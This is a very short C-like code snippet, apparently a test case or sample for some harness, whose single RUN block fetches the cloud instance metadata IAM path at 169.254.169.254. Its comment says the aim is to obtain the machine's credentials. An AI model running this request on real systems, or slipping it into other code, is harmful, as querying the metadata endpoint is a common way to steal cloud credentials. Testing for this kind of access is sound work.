/* Asks the cloud's metadata service for the machine's credentials. */
#include "http.h"
RUN { return fetch("GET", AW_STR("http://169.254.169.254/latest/meta-data/iam/"), "{}"); }
